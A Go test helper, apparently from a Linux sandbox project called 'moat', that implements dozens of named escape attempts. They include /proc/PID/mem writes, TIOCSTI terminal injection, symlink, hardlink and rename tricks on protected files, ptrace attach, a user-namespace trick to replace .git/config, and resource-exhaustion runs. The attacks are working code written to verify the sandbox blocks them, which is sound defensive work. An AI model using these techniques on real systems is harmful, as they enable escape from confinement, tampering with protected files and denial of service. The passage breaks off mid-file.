//go:build linux

package privtests

// The attack helper: the test binary re-executed with MOAT_ATTACK=1 runs one
// attack and prints "ESCAPED: ..." (exit 0) when it worked, or
// "blocked: ..." (exit 1) when it did not. The same attack runs without moat
// (it must escape: the target is reachable by this user) and under moat (it
// must be blocked), so a test cannot pass because the attack was broken.

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func attackMain(args []string) int {
	if len(args) == 0 {
		fmt.Println("blocked: no attack named")
		return 2
	}
	f, ok := attacks[args[0]]
	if !ok {
		fmt.Printf("blocked: unknown attack %q\n", args[0])
		return 2
	}
	detail, err := f(args[1:])
	if err != nil {
		fmt.Printf("blocked: %v\n", err)
		return 1
	}
	fmt.Printf("ESCAPED: %s\n", detail)
	return 0
}

// readContent reads a file the attack wants the contents of. Empty is not
// a read: moat shows a hidden file as an empty one (and reports the open),
// and every secret these tests plant has contents.
func readContent(path string) ([]byte, error) {
	b, err := os.ReadFile(path)
	if err == nil && len(b) == 0 {
		return nil, fmt.Errorf("%s reads as empty (hidden)", path)
	}
	return b, err
}

// shmLock is shmctl's SHM_LOCK (linux/shm.h), which x/sys/unix does not name.
const shmLock = 11

var attacks = map[string]func([]string) (string, error){
	// read PATH: read a file and print its first bytes.
	"read": func(a []string) (string, error) {
		b, err := readContent(a[0])
		if err != nil {
			return "", err
		}
		return fmt.Sprintf("read %q", firstLine(b)), nil
	},
	// list DIR: list a directory (a hidden one shows as empty).
	"list": func(a []string) (string, error) {
		es, err := os.ReadDir(a[0])
		if err != nil {
			return "", err
		}
		if len(es) == 0 {
			return "", fmt.Errorf("%s is empty", a[0])
		}
		return fmt.Sprintf("%d entries, first %s", len(es), es[0].Name()), nil
	},
	// procmem: write into the memory of another process of the same user
	// (a child here, as a command's child is to the session's shell)
	// through /proc/PID/mem, which needs no ptrace call.
	"procmem": func(a []string) (string, error) {
		child := exec.Command("sleep", "30")
		if err := child.Start(); err != nil {
			return "", err
		}
		defer func() { child.Process.Kill(); child.Wait() }()
		pid := strconv.Itoa(child.Process.Pid)
		maps, err := os.ReadFile("/proc/" + pid + "/maps")
		if err != nil {
			return "", err
		}
		var addr uint64
		for _, l := range strings.Split(string(maps), "\n") {
			f := strings.Fields(l)
			if len(f) > 1 && strings.HasPrefix(f[1], "rw") {
				lo, _, _ := strings.Cut(f[0], "-")
				addr, _ = strconv.ParseUint(lo, 16, 64)
				break
			}
		}
		if addr == 0 {
			return "", fmt.Errorf("no writable mapping in %s", pid)
		}
		mem, err := os.OpenFile("/proc/"+pid+"/mem", os.O_RDWR, 0)
		if err != nil {
			return "", err
		}
		defer mem.Close()
		b := make([]byte, 1)
		if _, err := mem.ReadAt(b, int64(addr)); err != nil {
			return "", err
		}
		if _, err := mem.WriteAt(b, int64(addr)); err != nil {
			return "", err
		}
		return fmt.Sprintf("wrote pid %s's memory at %#x", pid, addr), nil
	},
	// sendto-fd FD ADDR: send a datagram to ADDR on the socket the caller
	// handed over as descriptor FD.
	"sendto-fd": func(a []string) (string, error) {
		fd, _ := strconv.Atoi(a[0])
		pc, err := net.FilePacketConn(os.NewFile(uintptr(fd), "fd"))
		if err != nil {
			return "", err
		}
		to, err := net.ResolveUDPAddr("udp", a[1])
		if err != nil {
			return "", err
		}
		if _, err := pc.WriteTo([]byte("ESCAPED-UDP"), to); err != nil {
			return "", err
		}
		return "sent to " + a[1] + " on descriptor " + a[0], nil
	},
	// reconnect-fd FD ADDR: disconnect the TCP socket handed over as
	// descriptor FD (connect with AF_UNSPEC) and connect it to ADDR.
	"reconnect-fd": func(a []string) (string, error) {
		fd, _ := strconv.Atoi(a[0])
		if _, err := unix.Getpeername(fd); err != nil {
			return "", fmt.Errorf("descriptor %d is no connected socket: %v", fd, err)
		}
		var unspec [16]byte // struct sockaddr with sa_family AF_UNSPEC
		if _, _, e := unix.Syscall(unix.SYS_CONNECT, uintptr(fd), uintptr(unsafe.Pointer(&unspec[0])), 16); e != 0 {
			return "", fmt.Errorf("disconnect: %v", e)
		}
		ap, err := netip.ParseAddrPort(a[1])
		if err != nil {
			return "", err
		}
		if err := unix.Connect(fd, &unix.SockaddrInet4{Port: int(ap.Port()), Addr: ap.Addr().As4()}); err != nil {
			return "", err
		}
		if _, err := unix.Write(fd, []byte("ESCAPED-TCP\n")); err != nil {
			return "", err
		}
		return "reconnected descriptor " + a[0] + " to " + a[1], nil
	},
	// symlink-read TARGET LINK: plant a symlink and read through it.
	"symlink-read": func(a []string) (string, error) {
		if err := os.Symlink(a[0], a[1]); err != nil && !os.IsExist(err) {
			return "", err
		}
		b, err := readContent(a[1])
		if err != nil {
			return "", err
		}
		return fmt.Sprintf("read %q through a symlink", firstLine(b)), nil
	},
	// hardlink-read TARGET LINK: hard-link a file and read the link.
	"hardlink-read": func(a []string) (string, error) {
		if err := os.Link(a[0], a[1]); err != nil {
			return "", err
		}
		b, err := readContent(a[1])
		if err != nil {
			return "", err
		}
		return fmt.Sprintf("read %q through a hard link", firstLine(b)), nil
	},
	// write PATH DATA: create or truncate a file and write.
	"write": func(a []string) (string, error) {
		if err := os.WriteFile(a[0], []byte(a[1]), 0o644); err != nil {
			return "", err
		}
		return "wrote " + a[0], nil
	},
	// mkdir-write DIR FILE DATA: create a directory and a file in it.
	"mkdir-write": func(a []string) (string, error) {
		if err := os.MkdirAll(a[0], 0o755); err != nil {
			return "", err
		}
		p := filepath.Join(a[0], a[1])
		if err := os.WriteFile(p, []byte(a[2]), 0o755); err != nil {
			return "", err
		}
		return "wrote " + p, nil
	},
	// symlink-write TARGET LINK DATA: plant a symlink and write through it.
	"symlink-write": func(a []string) (string, error) {
		if err := os.Symlink(a[0], a[1]); err != nil {
			return "", err
		}
		if err := os.WriteFile(a[1], []byte(a[2]), 0o644); err != nil {
			return "", err
		}
		return "wrote " + a[0] + " through a symlink", nil
	},
	// rename-over SRC DST: make SRC and rename it over DST.
	"rename-over": func(a []string) (string, error) {
		if err := os.WriteFile(a[0], []byte("evil\n"), 0o644); err != nil {
			return "", err
		}
		if err := os.Rename(a[0], a[1]); err != nil {
			return "", err
		}
		return "renamed over " + a[1], nil
	},
	// hardlink-write TARGET LINK DATA: hard-link TARGET at LINK, write LINK.
	"hardlink-write": func(a []string) (string, error) {
		if err := os.Link(a[0], a[1]); err != nil {
			return "", err
		}
		f, err := os.OpenFile(a[1], os.O_WRONLY|os.O_APPEND, 0)
		if err != nil {
			return "", err
		}
		defer f.Close()
		if _, err := f.WriteString(a[2]); err != nil {
			return "", err
		}
		return "wrote " + a[0] + " through a hard link", nil
	},
	// link-over SRC DST: make SRC and hard-link it at DST.
	"link-over": func(a []string) (string, error) {
		if err := os.WriteFile(a[0], []byte("evil\n"), 0o644); err != nil {
			return "", err
		}
		if err := os.Link(a[0], a[1]); err != nil {
			return "", err
		}
		return "hard-linked at " + a[1], nil
	},
	// move-dir DIR ASIDE FILE DATA: move a directory aside, recreate it and
	// write FILE in it (replacing a protected .git, say).
	"move-dir": func(a []string) (string, error) {
		if err := os.Rename(a[0], a[1]); err != nil {
			return "", err
		}
		if err := os.MkdirAll(filepath.Dir(filepath.Join(a[0], a[2])), 0o755); err != nil {
			return "", err
		}
		if err := os.WriteFile(filepath.Join(a[0], a[2]), []byte(a[3]), 0o755); err != nil {
			return "", err
		}
		return "replaced " + a[0], nil
	},
	// rename-parent-write DIR FILE DATA: rename DIR aside, make it again and
	// write FILE in it (undoing a denyWrite on DIR/FILE).
	"rename-parent-write": func(a []string) (string, error) {
		if err := os.Rename(a[0], a[0]+".old"); err != nil {
			return "", err
		}
		if err := os.MkdirAll(a[0], 0o755); err != nil {
			return "", err
		}
		p := filepath.Join(a[0], a[1])
		if err := os.WriteFile(p, []byte(a[2]), 0o644); err != nil {
			return "", err
		}
		return "wrote " + p + " after renaming its parent", nil
	},
	// rename-parent-read DIR FILE: rename DIR aside and read FILE through
	// the new name (undoing a denyRead below DIR).
	"rename-parent-read": func(a []string) (string, error) {
		if err := os.Rename(a[0], a[0]+".old"); err != nil {
			return "", err
		}
		b, err := os.ReadFile(filepath.Join(a[0]+".old", a[1]))
		if err != nil {
			return "", err
		}
		if !strings.Contains(string(b), "SECRET") {
			return "", fmt.Errorf("read %q, not the secret", firstLine(b))
		}
		return fmt.Sprintf("read %q after renaming its parent", firstLine(b)), nil
	},
	// personality: turn address randomisation off for what runs next.
	"personality": func(a []string) (string, error) {
		const addrNoRandomize = 0x0040000
		old, _, e := unix.Syscall(unix.SYS_PERSONALITY, 0xffffffff, 0, 0)
		if e != 0 {
			return "", e
		}
		if _, _, e := unix.Syscall(unix.SYS_PERSONALITY, old|addrNoRandomize, 0, 0); e != 0 {
			return "", fmt.Errorf("personality(ADDR_NO_RANDOMIZE): %v", e)
		}
		now, _, _ := unix.Syscall(unix.SYS_PERSONALITY, 0xffffffff, 0, 0)
		if now&addrNoRandomize == 0 {
			return "", fmt.Errorf("personality is %#x", now)
		}
		return "address randomisation turned off", nil
	},
	// socket FAMILY TYPE PROTO: create a socket of a family the sandbox has
	// no use for.
	"socket": func(a []string) (string, error) {
		var v [3]int
		for i := range v {
			n, err := strconv.Atoi(a[i])
			if err != nil {
				return "", err
			}
			v[i] = n
		}
		fd, err := unix.Socket(v[0], v[1], v[2])
		if err != nil {
			return "", err
		}
		unix.Close(fd)
		return fmt.Sprintf("socket(%d, %d, %d) created", v[0], v[1], v[2]), nil
	},
	// proc-write PATH: write a kernel knob's current value back to it.
	"proc-write": func(a []string) (string, error) {
		b, err := os.ReadFile(a[0])
		if err != nil {
			return "", err
		}
		if err := os.WriteFile(a[0], b, 0); err != nil {
			return "", err
		}
		return "rewrote " + a[0] + " with " + strings.TrimSpace(string(b)), nil
	},
	// writable-kernel-files: list what the caller can write in /proc (not
	// its processes' own directories) and /sys.
	"writable-kernel-files": func(a []string) (string, error) {
		var found []string
		for _, top := range []string{"/proc", "/sys"} {
			filepath.WalkDir(top, func(p string, d os.DirEntry, err error) error {
				if err != nil {
					return nil
				}
				if d.IsDir() {
					rel := strings.TrimPrefix(p, "/proc/")
					if top == "/proc" && p != "/proc" && !strings.Contains(rel, "/") {
						if _, err := strconv.Atoi(rel); err == nil || rel == "self" || rel == "thread-self" {
							return filepath.SkipDir
						}
					}
					if len(found) > 20 {
						return filepath.SkipAll
					}
					return nil
				}
				if d.Type()&os.ModeSymlink != 0 {
					return nil
				}
				fi, err := os.Lstat(p) // (what readdir says may be a mount's underlying type)
				if err != nil {
					return nil
				}
				if !fi.Mode().IsRegular() {
					// A device or FIFO: access(2) does not check the mount's
					// read-only flag for them; opening tells.
					if fd, err := unix.Open(p, unix.O_WRONLY|unix.O_NONBLOCK|unix.O_CLOEXEC|unix.O_NOCTTY, 0); err == nil {
						unix.Close(fd)
						found = append(found, p)
					}
					return nil
				}
				if unix.Faccessat(unix.AT_FDCWD, p, unix.W_OK, unix.AT_EACCESS) == nil {
					found = append(found, p)
				}
				return nil
			})
		}
		if len(found) == 0 {
			return "", fmt.Errorf("nothing writable in /proc or /sys")
		}
		return fmt.Sprintf("%d writable: %v", len(found), found), nil
	},
	// magic-write PATH DATA: open read-only, reopen through /proc/self/fd
	// for writing.
	"magic-write": func(a []string) (string, error) {
		f, err := os.Open(a[0])
		if err != nil {
			return "", err
		}
		defer f.Close()
		w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", f.Fd()), os.O_WRONLY|os.O_TRUNC, 0)
		if err != nil {
			return "", err
		}
		defer w.Close()
		if _, err := w.WriteString(a[1]); err != nil {
			return "", err
		}
		return "wrote " + a[0] + " through /proc/self/fd", nil
	},
	// ptrace PID: attach to a process.
	"ptrace": func(a []string) (string, error) {
		pid, _ := strconv.Atoi(a[0])
		if err := unix.PtraceSeize(pid); err != nil {
			return "", fmt.Errorf("ptrace(SEIZE, %d): %w", pid, err)
		}
		return fmt.Sprintf("attached to %d", pid), nil
	},
	// kill PID: send SIGTERM to a process.
	"kill": func(a []string) (string, error) {
		pid, _ := strconv.Atoi(a[0])
		if err := unix.Kill(pid, unix.SIGTERM); err != nil {
			return "", fmt.Errorf("kill(%d): %w", pid, err)
		}
		return fmt.Sprintf("signalled %d", pid), nil
	},
	// environ PID: read another process's environment.
	"environ": func(a []string) (string, error) {
		b, err := os.ReadFile("/proc/" + a[0] + "/environ")
		if err != nil {
			return "", err
		}
		if !bytes.Contains(b, []byte(a[1])) {
			return "", fmt.Errorf("environment of %s does not hold %s", a[0], a[1])
		}
		return "read the environment of " + a[0], nil
	},
	// tiocsti FD: inject a character into the terminal on FD.
	"tiocsti": func(a []string) (string, error) {
		fd, _ := strconv.Atoi(a[0])
		c := byte('#')
		if _, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&c))); e != 0 {
			return "", fmt.Errorf("ioctl(TIOCSTI): %w", e)
		}
		return "injected a character", nil
	},
	// tiocsti-ctty-out FD: inject into the terminal on FD, which is the
	// caller's controlling terminal (stdin is not a terminal).
	"tiocsti-ctty-out": func(a []string) (string, error) {
		fd, _ := strconv.Atoi(a[0])
		c := byte('#')
		if _, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&c))); e != 0 {
			return "", fmt.Errorf("ioctl(TIOCSTI) on fd %d: %w", fd, e)
		}
		return "injected a character", nil
	},
	// tiocsti-ctty: become the session leader of the terminal on fd 0 (as a
	// command on the caller's terminal is) and inject into it.
	"tiocsti-ctty": func(a []string) (string, error) {
		unix.Setsid()
		unix.IoctlSetInt(0, unix.TIOCSCTTY, 0)
		c := byte('#')
		if _, _, e := unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCSTI, uintptr(unsafe.Pointer(&c))); e != 0 {
			return "", fmt.Errorf("ioctl(TIOCSTI): %w", e)
		}
		return "injected a character", nil
	},
	// tiocsetd: give a new pty the N_NULL line discipline (built into
	// this kernel, so no module is needed to prove the call works).
	"tiocsetd": func(a []string) (string, error) {
		fd, err := unix.Open("/dev/ptmx", unix.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
		if err != nil {
			return "", fmt.Errorf("open /dev/ptmx: %w", err)
		}
		defer unix.Close(fd)
		const nNull = 27
		if err := unix.IoctlSetPointerInt(fd, unix.TIOCSETD, nNull); err != nil {
			return "", fmt.Errorf("ioctl(TIOCSETD, N_NULL): %w", err)
		}
		got, err := unix.IoctlGetInt(fd, unix.TIOCGETD)
		if err != nil || got != nNull {
			return "", fmt.Errorf("TIOCGETD after TIOCSETD: %d %v", got, err)
		}
		return "set a pty's line discipline", nil
	},
	// modify_ldt: write an entry of the process's local descriptor table
	// (a flat 32-bit data segment).
	"modify_ldt": func(a []string) (string, error) {
		desc := [4]uint32{0, 0, 0xfffff, 0x51} // entry 0, base 0, limit, seg_32bit|limit_in_pages|useable
		if _, _, e := unix.Syscall(unix.SYS_MODIFY_LDT, 1, uintptr(unsafe.Pointer(&desc[0])), unsafe.Sizeof(desc)); e != 0 {
			return "", fmt.Errorf("modify_ldt: %w", e)
		}
		return "wrote an LDT entry", nil
	},
	// fanotify: make a fanotify group as an unprivileged process may
	// (FAN_CLASS_NOTIF | FAN_REPORT_FID, Linux 5.13).
	"fanotify": func(a []string) (string, error) {
		fd, err := unix.FanotifyInit(unix.FAN_CLASS_NOTIF|unix.FAN_REPORT_FID|unix.FAN_CLOEXEC, unix.O_RDONLY)
		if err != nil {
			return "", fmt.Errorf("fanotify_init: %w", err)
		}
		unix.Close(fd)
		return "made a fanotify group", nil
	},
	// io_uring: set up an io_uring instance.
	"io_uring": func(a []string) (string, error) {
		var params [120]byte
		fd, _, e := unix.Syscall(unix.SYS_IO_URING_SETUP, 4, uintptr(unsafe.Pointer(&params[0])), 0)
		if e != 0 {
			return "", fmt.Errorf("io_uring_setup: %w", e)
		}
		unix.Close(int(fd))
		return "io_uring instance created", nil
	},
	// setuid PATH: run a set-user-ID program and report its effective uid
	// and capabilities.
	"setuid": func(a []string) (string, error) {
		out, err := exec.Command(a[0], "-u").Output()
		if err != nil {
			return "", err
		}
		euid := strings.TrimSpace(string(out))
		if euid != strconv.Itoa(os.Getuid()) {
			return "euid became " + euid, nil
		}
		return "", fmt.Errorf("euid stayed %s", euid)
	},
	// caps: report the effective capabilities of a fresh exec.
	"caps": func(a []string) (string, error) {
		out, err := exec.Command("/bin/sh", "-c", "grep CapEff /proc/self/status").Output()
		if err != nil {
			return "", err
		}
		if strings.Contains(string(out), "0000000000000000") {
			return "", fmt.Errorf("no capabilities: %s", strings.TrimSpace(string(out)))
		}
		return "capabilities: " + strings.TrimSpace(string(out)), nil
	},
	// daemon PIDFILE: leave a process behind with setsid and a double fork.
	// daemon PIDFILE MARKER: leave "sleep MARKER" running in a new session.
	"daemon": func(a []string) (string, error) {
		cmd := exec.Command("/bin/sh", "-c", `setsid sh -c 'sleep "$1" & echo $! > "$0"; exit 0' "$1" "$2" </dev/null >/dev/null 2>&1 &`, "sh", a[0], a[1])
		if err := cmd.Run(); err != nil {
			return "", err
		}
		for i := 0; i < 100; i++ {
			if b, err := os.ReadFile(a[0]); err == nil && len(bytes.TrimSpace(b)) > 0 {
				return "left " + strings.TrimSpace(string(b)) + " behind", nil
			}
			time.Sleep(20 * time.Millisecond)
		}
		return "", fmt.Errorf("daemon did not start")
	},
	// userns-replace GITDIR: the nested user namespace + pivot_root + detach
	// trick against a bind-mount protection of GITDIR/config: hold the git
	// directory by fd, leave the protective mount behind in the old
	// namespace, and replace config through the fd.
	"userns-replace": userNSReplace,
	// unshare-user: create a user namespace.
	"unshare-user": func(a []string) (string, error) {
		out, err := exec.Command(python3(), "-c", unshareScript).CombinedOutput()
		s := strings.TrimSpace(string(out))
		if err != nil || !strings.HasPrefix(s, "ESCAPED") {
			return "", fmt.Errorf("%s", strings.TrimPrefix(s, "blocked: "))
		}
		return strings.TrimPrefix(s, "ESCAPED: "), nil
	},
	// mount-proc: mount something (needs a mount namespace of its own).
	"umount": func(a []string) (string, error) {
		if err := unix.Unmount(a[0], unix.MNT_DETACH); err != nil {
			return "", fmt.Errorf("umount %s: %w", a[0], err)
		}
		return "unmounted " + a[0], nil
	},
	// lease PATH: take a write lease on a file this user owns and may
	// only read, then open it again (another open file, as another
	// process's would be) without blocking: under the lease the kernel
	// holds that open (EWOULDBLOCK here; a blocking open, any other
	// process's, waits lease-break-time, 45 s).
	// btrfs-subvol DIR NAME: make a btrfs subvolume DIR/NAME with
	// BTRFS_IOC_SUBVOL_CREATE, an ioctl on DIR opened for reading.
	"btrfs-subvol": func(a []string) (string, error) {
		if err := btrfsVolIoctl(a[0], btrfsSubvolCreate, -1, a[1]); err != nil {
			return "", err
		}
		return "made the subvolume " + filepath.Join(a[0], a[1]), nil
	},
	// btrfs-snapshot SRC DIR NAME [FILE]: snapshot the subvolume SRC as
	// DIR/NAME (BTRFS_IOC_SNAP_CREATE, both opened for reading); with
	// FILE, read DIR/NAME/FILE from the snapshot.
	"btrfs-snapshot": func(a []string) (string, error) {
		src, err := unix.Open(a[0], unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			return "", err
		}
		defer unix.Close(src)
		if err := btrfsVolIoctl(a[1], btrfsSnapCreate, src, a[2]); err != nil {
			return "", err
		}
		if len(a) < 4 {
			return "snapshot " + a[0] + " as " + filepath.Join(a[1], a[2]), nil
		}
		b, err := readContent(filepath.Join(a[1], a[2], a[3]))
		if err != nil {
			return "", err
		}
		return fmt.Sprintf("read %q from a snapshot of %s", firstLine(b), a[0]), nil
	},
	// fscrypt-add-key DIR: add an encryption key to DIR's filesystem
	// (FS_IOC_ADD_ENCRYPTION_KEY on DIR opened for reading): it stays in
	// the filesystem's keyring, charged to the user's key quota.
	"fscrypt-add-key": func(a []string) (string, error) {
		id, err := fscryptAddKey(a[0], []byte(strings.Repeat("k", 64)))
		if err != nil {
			return "", err
		}
		return fmt.Sprintf("added key %x to %s's filesystem", id, a[0]), nil
	},
	// fscrypt-lock DIR: remove the user's claim to the key of the
	// encrypted directory DIR (FS_IOC_REMOVE_ENCRYPTION_KEY), which locks
	// it.
	"fscrypt-lock": func(a []string) (string, error) {
		id, err := fscryptPolicyKey(a[0])
		if err != nil {
			return "", err
		}
		if err := fscryptKeyIoctl(a[0], fsIocRemoveEncryptionKey, id); err != nil {
			return "", err
		}
		return fmt.Sprintf("removed key %x: %s is locked", id, a[0]), nil
	},
	// futex-requeue VICTIM OWN: move the waiters of the shared futex at
	// the start of VICTIM (mapped for reading only) to the one at the
	// start of OWN (FUTEX_CMP_REQUEUE): a wake on VICTIM then reaches none.
	"futex-requeue": func(a []string) (string, error) {
		victim, err := mapShared(a[0], false)
		if err != nil {
			return "", err
		}
		own, err := mapShared(a[1], true)
		if err != nil {
			return "", err
		}
		const futexCmpRequeue, maxInt32 = 4, 1<<31 - 1
		n, _, e := unix.Syscall6(unix.SYS_FUTEX, uintptr(unsafe.Pointer(&victim[0])), futexCmpRequeue, 0, maxInt32, uintptr(unsafe.Pointer(&own[0])), 0)
		if e != 0 {
			return "", fmt.Errorf("futex FUTEX_CMP_REQUEUE: %w", e)
		}
		if n == 0 {
			return "", fmt.Errorf("no waiter on %s to move", a[0])
		}
		return fmt.Sprintf("moved %d waiters of %s's futex to %s's", n, a[0], a[1]), nil
	},
	"lease": func(a []string) (string, error) {
		signal.Ignore(unix.SIGIO) // the lease break's signal
		fd, err := unix.Open(a[0], unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			return "", err
		}
		defer unix.Close(fd)
		if _, err := unix.FcntlInt(uintptr(fd), unix.F_SETLEASE, unix.F_WRLCK); err != nil {
			return "", fmt.Errorf("fcntl F_SETLEASE: %w", err)
		}
		defer unix.FcntlInt(uintptr(fd), unix.F_SETLEASE, unix.F_UNLCK)
		other, err := unix.Open(a[0], unix.O_RDONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
		if err == nil {
			unix.Close(other)
			return "", fmt.Errorf("a lease was taken on %s, but another open went through", a[0])
		}
		if err != unix.EWOULDBLOCK {
			return "", fmt.Errorf("open under the lease: %w", err)
		}
		return "a lease on " + a[0] + " holds every other process's open of it", nil
	},
	// inotify-half: make more than half of this user's inotify instances
	// (fs.inotify.max_user_instances, the host's limit, which the kernel
	// charges through every user namespace up to the host's). Past half
	// the user's own programs (editors, systemd) are left too few; this
	// stops one past half, so that run without moat it does not take them
	// all.
	"inotify-half": func(a []string) (string, error) {
		b, err := os.ReadFile("/proc/sys/fs/inotify/max_user_instances")
		if err != nil {
			return "", err
		}
		limit, err := strconv.Atoi(strings.TrimSpace(string(b)))
		if err != nil {
			return "", err
		}
		want := limit/2 + 1
		for i := 0; i < want; i++ {
			if _, err := unix.InotifyInit1(unix.IN_CLOEXEC); err != nil {
				return "", fmt.Errorf("inotify instance %d of %d (the user's limit %d): %w", i+1, want, limit, err)
			}
		}
		return fmt.Sprintf("made %d of the user's %d inotify instances", want, limit), nil
	},
	// timers-half LIMIT: make more than half of LIMIT POSIX timers, LIMIT
	// being the user's RLIMIT_SIGPENDING outside: each timer holds a
	// queued signal, charged to the user in every user namespace up to
	// the host's, and past the limit every timer_create and sigqueue of
	// the user's, outside too, fails. It stops one past half, so that run
	// without moat it does not take them all; they go when it exits.
	"timers-half": func(a []string) (string, error) {
		limit, err := strconv.ParseUint(a[0], 10, 64)
		if err != nil {
			return "", err
		}
		want := limit/2 + 1
		var ev [64]byte // struct sigevent: sigev_notify (offset 12) SIGEV_NONE
		binary.NativeEndian.PutUint32(ev[12:], 1)
		for i := uint64(0); i < want; i++ {
			var id int32
			if _, _, e := unix.Syscall(unix.SYS_TIMER_CREATE, unix.CLOCK_MONOTONIC, uintptr(unsafe.Pointer(&ev[0])), uintptr(unsafe.Pointer(&id))); e != 0 {
				return "", fmt.Errorf("timer %d of %d (the user's limit %d): %w", i+1, want, limit, e)
			}
		}
		return fmt.Sprintf("made %d POSIX timers of the user's %d queued signals", want, limit), nil
	},
	// fork-half LIMIT: start more than half of LIMIT processes, LIMIT
	// being the user's RLIMIT_NPROC outside, which the kernel checks
	// against the user's count of tasks on the host, the sandbox's
	// included. It stops one past half and ends them when it is done.
	"fork-half": func(a []string) (string, error) {
		limit, err := strconv.ParseUint(a[0], 10, 64)
		if err != nil {
			return "", err
		}
		want := limit/2 + 1
		var started []*exec.Cmd
		defer func() {
			for _, c := range started {
				c.Process.Kill()
				c.Wait()
			}
		}()
		for i := uint64(0); i < want; i++ {
			c := exec.Command("sleep", "60")
			if err := c.Start(); err != nil {
				return "", fmt.Errorf("process %d of %d (the user's limit %d): %w", i+1, want, limit, err)
			}
			started = append(started, c)
		}
		return fmt.Sprintf("started %d processes of the user's %d", want, limit), nil
	},
	// timers-hold LIMIT RELEASE: make POSIX timers until refused or past
	// half of LIMIT, say how many ("made N"), and hold them until the file
	// RELEASE exists (at most a minute).
	"timers-hold": func(a []string) (string, error) {
		limit, err := strconv.ParseUint(a[0], 10, 64)
		if err != nil {
			return "", err
		}
		var ev [64]byte // struct sigevent: sigev_notify (offset 12) SIGEV_NONE
		binary.NativeEndian.PutUint32(ev[12:], 1)
		n := uint64(0)
		for ; n <= limit/2; n++ {
			var id int32
			if _, _, e := unix.Syscall(unix.SYS_TIMER_CREATE, unix.CLOCK_MONOTONIC, uintptr(unsafe.Pointer(&ev[0])), uintptr(unsafe.Pointer(&id))); e != 0 {
				break
			}
		}
		fmt.Printf("made %d\n", n)
		for end := time.Now().Add(time.Minute); time.Now().Before(end); time.Sleep(50 * time.Millisecond) {
			if _, err := os.Stat(a[1]); err == nil {
				break
			}
		}
		return fmt.Sprintf("held %d POSIX timers of the user's %d queued signals", n, limit), nil
	},
	// shmlock-half LIMIT: lock more than half of LIMIT bytes, the user's
	// RLIMIT_MEMLOCK outside, of System V shared memory (SHM_LOCK), which
	// the kernel charges to the user in every user namespace up to the
	// host's. Each segment is attached and marked for removal, so it goes
	// when this process exits (the host's IPC namespace without moat).
	"shmlock-half": func(a []string) (string, error) {
		limit, err := strconv.ParseUint(a[0], 10, 64)
		if err != nil {
			return "", err
		}
		const seg = 64 << 10
		want := limit/2/seg + 1
		for i := uint64(0); i < want; i++ {
			id, err := unix.SysvShmGet(unix.IPC_PRIVATE, seg, unix.IPC_CREAT|0o600)
			if err != nil {
				return "", fmt.Errorf("shmget %d of %d: %w", i+1, want, err)
			}
			_, err = unix.SysvShmAttach(id, 0, 0)
			unix.SysvShmCtl(id, unix.IPC_RMID, nil)
			if err != nil {
				return "", fmt.Errorf("shmat %d of %d: %w", i+1, want, err)
			}
			if _, err := unix.SysvShmCtl(id, shmLock, nil); err != nil {
				return "", fmt.Errorf("SHM_LOCK of segment %d of %d (%d KiB each, the user's limit %d bytes): %w", i+1, want, seg>>10, limit, err)
			}
		}
		return fmt.Sprintf("locked %d KiB of System V shared memory of the user's %d", want*seg>>10, limit>>10), nil
	},
	// aio-hog: take native AIO events (io_setup) until the kernel refuses:
	// escaped when that is more than half of the machine's (fs.aio-max-nr,
	// one count for every user); they go back when this process exits.
	"aio-hog": func(a []string) (string, error) {
		b, err := os.ReadFile("/proc/sys/fs/aio-max-nr")
		if err != nil {
			return "", err
		}
		limit, err := strconv.Atoi(strings.TrimSpace(string(b)))
		if err != nil {
			return "", err
		}
		total := 0
		var last error
		for nr := 1 << 16; nr >= 1; nr /= 2 {
			for {
				var ctx uintptr
				if _, _, e := unix.Syscall(unix.SYS_IO_SETUP, uintptr(nr), uintptr(unsafe.Pointer(&ctx)), 0); e != 0 {
					last = e
					break
				}
				total += nr
			}
		}
		if 2*total <= limit {
			return "", fmt.Errorf("took %d of the machine's %d AIO events (io_setup: %v)", total, limit, last)
		}
		return fmt.Sprintf("took %d of the machine's %d AIO events: every other process's io_setup fails", total, limit), nil
	},
	// hugetlb-hog: take huge pages of the machine's pool (MAP_HUGETLB)
	// until the kernel refuses: escaped with one or more.
	"hugetlb-hog": func(a []string) (string, error) {
		n := 0
		var last error
		for {
			p, err := unix.Mmap(-1, 0, 2<<20, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_ANONYMOUS|unix.MAP_HUGETLB)
			if err != nil {
				last = err
				break
			}
			p[0] = 1
			n++
		}
		if n == 0 {
			return "", fmt.Errorf("no huge page: mmap MAP_HUGETLB: %w", last)
		}
		return fmt.Sprintf("took %d huge pages of the machine's pool", n), nil
	},
	// pty-half: open more than half of the pseudo-terminals every devpts
	// instance but the host's own shares (kernel.pty.max less
	// kernel.pty.reserve); it stops one past half, so that run without
	// moat it leaves the host's terminals room.
	"pty-half": func(a []string) (string, error) {
		read := func(p string) (int, error) {
			b, err := os.ReadFile(p)
			if err != nil {
				return 0, err
			}
			return strconv.Atoi(strings.TrimSpace(string(b)))
		}
		max, err := read("/proc/sys/kernel/pty/max")
		if err != nil {
			return "", err
		}
		reserve, err := read("/proc/sys/kernel/pty/reserve")
		if err != nil {
			return "", err
		}
		var rl unix.Rlimit
		unix.Getrlimit(unix.RLIMIT_NOFILE, &rl)
		rl.Cur = rl.Max
		unix.Setrlimit(unix.RLIMIT_NOFILE, &rl)
		want := (max-reserve)/2 + 1
		for i := 0; i < want; i++ {
			if _, err := unix.Open("/dev/ptmx", unix.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC, 0); err != nil {
				return "", fmt.Errorf("pty %d of %d (the machine's %d, %d kept for the host): %w", i+1, want, max, reserve, err)
			}
		}
		return fmt.Sprintf("opened %d of the %d pseudo-terminals other devpts instances share", want, max-reserve), nil
	},
